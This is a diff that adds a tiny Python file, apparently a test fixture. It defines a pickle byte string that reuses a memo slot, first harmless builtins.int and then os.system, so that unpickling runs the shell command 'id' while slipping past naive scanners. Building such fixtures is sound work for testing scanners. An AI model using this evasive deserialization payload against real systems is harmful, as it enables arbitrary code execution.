@@ -1,0 +1,3 @@
+"""A number of the memo is innocent first, and then not."""
+
+PAYLOAD = b"\x80\x04\x8c\x08builtins\x8c\x03int\x93q\x000\x8c\x02os\x8c\x06system\x93q\x000h\x00\x8c\x02id\x85R."
